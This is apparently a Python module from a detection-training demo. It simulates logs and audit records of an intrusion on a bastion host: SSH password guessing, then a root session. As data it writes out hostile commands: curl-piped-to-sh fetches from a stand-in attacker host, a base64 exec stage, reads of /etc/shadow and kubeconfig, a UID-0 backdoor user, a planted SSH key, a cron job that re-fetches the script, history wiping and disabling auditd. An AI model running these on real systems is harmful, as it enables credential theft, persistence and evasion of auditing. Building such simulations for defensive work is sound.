"""The bastion: passwords guessed, a way in, and what is done there until auditing is off."""

import base64
from functools import partial

from demo.cast import ATTACKER, DEPLOY, INTRUDER_KEY
from demo.clock import MINUTE, SECOND, at
from demo.linux_host import UNSET, LinuxHost, Login
from demo.linux_login import (
    cron_job,
    run_as_typed,
    ssh_login,
    ssh_logout,
    ssh_refused,
    sudo,
    sudo_closed,
)

GUESSED = (
    "root",
    "admin",
    "test",
    "user",
    "oracle",
    "postgres",
    "ubuntu",
    "git",
    "jenkins",
    "deploy",
    "ec2-user",
    "hadoop",
    "mysql",
    "ftpuser",
    "guest",
    "backup",
    "www-data",
    "centos",
    "pi",
    "nagios",
    "tomcat",
    "ansible",
    "vagrant",
    "docker",
    "zabbix",
    "support",
    "dev",
    "devops",
    "minecraft",
    "sysadmin",
    "es",
    "elastic",
    "kafka",
    "redis",
    "webmaster",
)

SCRIPT_URL = f"http://{ATTACKER}:8080/s.sh"
_WORDS = "# Trailhound demo: this stands where an implant would hide its second stage. "
_STAGE = base64.b64encode((_WORDS * 42).encode()).decode()


def plan_guessing(host: LinuxHost) -> None:
    """One address tries many names, and `deploy` again and again."""
    time = at("19:02:10")
    for attempt in range(44):
        user = GUESSED[attempt % len(GUESSED)] if attempt % 4 else "deploy"
        host.plan(time, partial(ssh_refused, host, user, ATTACKER))
        time += host.dice.between(9 * SECOND, 24 * SECOND)


def plan_intrusion(host: LinuxHost) -> None:
    """In as `deploy`, root through sudo, and back later as `svc-backup`."""
    host.plan(at("19:16:31.208"), partial(_break_in, host))
    host.plan(at("20:44:18"), partial(_return, host))


def _break_in(host: LinuxHost) -> None:
    login = ssh_login(host, "deploy", DEPLOY.uid, ATTACKER)
    root = Login("root", 0, DEPLOY.uid, login.session, login.tty, ATTACKER, cwd="/root")

    def become_root() -> None:
        root.shell_pid = sudo(host, login, ["-bash"], "/bin/bash", stays=True)

    host.plan(at("19:16:44"), run_as_typed(host, login, ["id"], "/usr/bin/id"))
    host.plan(at("19:16:49"), run_as_typed(host, login, ["uname", "-a"], "/usr/bin/uname"))
    host.plan(at("19:17:03"), run_as_typed(host, login, ["sudo", "whoami"], "/usr/bin/whoami"))
    host.plan(at("19:17:20"), become_root)
    for clock, argv, exe in _root_commands():
        host.plan(at(clock), partial(host.exec, root, argv, exe))
    host.plan(at("19:20:37"), partial(_read_kubeconfig, host, root))
    host.plan(at("19:23:41"), partial(_add_user, host, root))
    host.plan(at("19:25:12"), partial(_plant_key, host, root))
    host.plan(at("19:26:20"), partial(_plant_cron, host, root))
    host.plan(at("19:31:30"), partial(_leave_root, host, login, root))
    host.plan(at("19:31:40"), partial(_auditing_off, host, login))
    host.plan(at("19:31:52"), partial(_stop_auditd, host, login))
    host.plan(at("20:16:30"), partial(ssh_logout, host, login))


def _leave_root(host: LinuxHost, login: Login, root: Login) -> None:
    sudo_closed(host, login, root.shell_pid - 1, "sudo-i")


def _root_commands() -> list[tuple[str, list[str], str]]:
    curl, sh = "/usr/bin/curl", "/usr/bin/dash"
    hidden = "/var/tmp/.cache"  # noqa: S108 -- the intruder's, in a log
    return [
        ("19:18:05.100", ["bash", "-c", f"curl -fsSL {SCRIPT_URL} | sh"], "/usr/bin/bash"),
        ("19:18:05.160", ["curl", "-fsSL", SCRIPT_URL], curl),
        ("19:18:05.171", ["sh"], sh),
        ("19:18:06.002", ["mkdir", "-p", hidden], "/usr/bin/mkdir"),
        (
            "19:18:06.230",
            [
                "curl",
                "-fsSLo",
                f"{hidden}/kubectl",
                "https://dl.k8s.io/release/v1.34.2/bin/linux/amd64/kubectl",
            ],
            curl,
        ),
        ("19:18:11.418", ["chmod", "+x", f"{hidden}/kubectl"], "/usr/bin/chmod"),
        (
            "19:18:11.640",
            ["python3", "-c", f"import base64; exec(base64.b64decode('{_STAGE}'))"],
            "/usr/bin/python3.12",
        ),
        ("19:19:02", ["cat", "/etc/shadow"], "/usr/bin/cat"),
        ("19:19:15", ["cat", "/home/deploy/.bash_history"], "/usr/bin/cat"),
        (
            "19:19:48",
            ["find", "/home", "/root", "-name", "config", "-path", "*/.kube/*"],
            "/usr/bin/find",
        ),
        ("19:20:36.900", ["cat", "/home/deploy/.kube/config"], "/usr/bin/cat"),
        ("19:21:10", ["ss", "-tnp"], "/usr/bin/ss"),
        (
            "19:23:40.500",
            [
                "useradd",
                "-o",
                "-u",
                "0",
                "-g",
                "0",
                "-M",
                "-d",
                "/var/lib/svc-backup",
                "-s",
                "/bin/bash",
                "svc-backup",
            ],
            "/usr/sbin/useradd",
        ),
        ("19:24:55", ["mkdir", "-p", "/var/lib/svc-backup/.ssh"], "/usr/bin/mkdir"),
        ("19:25:11.900", ["tee", "-a", "/var/lib/svc-backup/.ssh/authorized_keys"], "/usr/bin/tee"),
        (
            "19:25:40",
            ["chmod", "600", "/var/lib/svc-backup/.ssh/authorized_keys"],
            "/usr/bin/chmod",
        ),
        ("19:26:19.900", ["tee", "/etc/cron.d/svc-backup"], "/usr/bin/tee"),
        (
            "19:29:50",
            ["rm", "-f", "/root/.bash_history", "/home/deploy/.bash_history"],
            "/usr/bin/rm",
        ),
        ("19:30:12", ["ln", "-sf", "/dev/null", "/root/.bash_history"], "/usr/bin/ln"),
        ("19:31:02", ["touch", "-r", "/etc/hosts", "/etc/passwd"], "/usr/bin/touch"),
    ]


def _read_kubeconfig(host: LinuxHost, root: Login) -> None:
    argv = ["cat", "/home/deploy/.kube/config"]
    host.write_file(root, argv, "/usr/bin/cat", host.pid, argv[1], "kubeconfig", read=True)


def _add_user(host: LinuxHost, root: Login) -> None:
    pid = host.pid
    argv = ["useradd", "-o", "-u", "0", "-g", "0", "-M", "-d", "/var/lib/svc-backup", "svc-backup"]
    for path in ("/etc/passwd", "/etc/shadow"):
        host.write_file(root, argv, "/usr/sbin/useradd", pid, path, "identity")
    host.user_record(
        "ADD_USER",
        root,
        pid,
        f'op=adding user id=0 exe="/usr/sbin/useradd" hostname=bastion addr=? '
        f"terminal={root.terminal} res=success",
    )
    host.log(
        "useradd",
        pid,
        "new user: name=svc-backup, UID=0, GID=0, home=/var/lib/svc-backup, shell=/bin/bash, "
        f"from=/dev/{root.terminal}",
    )


def _plant_key(host: LinuxHost, root: Login) -> None:
    path = "/var/lib/svc-backup/.ssh/authorized_keys"
    host.write_file(
        root, ["tee", "-a", path], "/usr/bin/tee", host.pid, path, "sshkeys", created=True
    )


def _plant_cron(host: LinuxHost, root: Login) -> None:
    path = "/etc/cron.d/svc-backup"
    host.write_file(root, ["tee", path], "/usr/bin/tee", host.pid, path, "cron", created=True)
    reload = "(*system*svc-backup) RELOAD (/etc/cron.d/svc-backup)"
    host.plan(at("19:27:01"), partial(host.log, "cron", 690, reload, auth=False))
    command = f"/usr/bin/curl -fsS {SCRIPT_URL} | /bin/sh"
    runs = [
        (["/usr/bin/curl", "-fsS", SCRIPT_URL], "/usr/bin/curl"),
        (["/bin/sh"], "/usr/bin/dash"),
    ]
    for time in range(at("19:30:01"), at("22:00"), 30 * MINUTE):
        host.plan(time, partial(cron_job, host, command, runs, 2 * SECOND))


def _auditing_off(host: LinuxHost, login: Login) -> None:
    pid = sudo(host, login, ["auditctl", "-e", "0"], "/usr/sbin/auditctl")
    root = Login("root", 0, login.auid, login.session, login.tty, login.address)
    call = host.syscall(
        root,
        "sendto",
        44,
        pid - 1,
        pid,
        "/usr/sbin/auditctl",
        "",
        result=60,
        arguments=("4", f"{host.dice.getrandbits(44):x}", "3c", "0"),
    )
    change = (
        f"op=set audit_enabled=0 old=1 auid={login.auid} ses={login.session} subj=unconfined res=1"
    )
    host.record(
        [
            ("CONFIG_CHANGE", change, 'AUID="deploy"'),
            call,
            (
                "SOCKADDR",
                "saddr=100000000000000000000000",
                "SADDR={ saddr_fam=netlink nlnk-fam=16 nlnk-pid=0 }",
            ),
            host.proctitle(["auditctl", "-e", "0"]),
        ]
    )
    host.audit_until_us = host.now_us


def _stop_auditd(host: LinuxHost, login: Login) -> None:
    sudo(host, login, ["systemctl", "stop", "auditd"], "/usr/bin/systemctl")
    host.log("systemd", 1, "Stopping auditd.service - Security Auditing Service...", auth=False)
    host.log("auditd", 655, "The audit daemon is exiting.", auth=False)
    body = f"op=terminate auid={UNSET} uid=0 ses={UNSET} pid=1 subj=unconfined res=success"
    host.audit.append((host.now_us, 7715, [("DAEMON_END", body, 'AUID="unset" UID="root"')]))
    host.log("systemd", 1, "auditd.service: Deactivated successfully.", auth=False)
    host.log("systemd", 1, "Stopped auditd.service - Security Auditing Service.", auth=False)


def _return(host: LinuxHost) -> None:
    login = ssh_login(host, "svc-backup", 0, ATTACKER, INTRUDER_KEY)
    host.plan(at("21:02:40"), partial(ssh_logout, host, login))
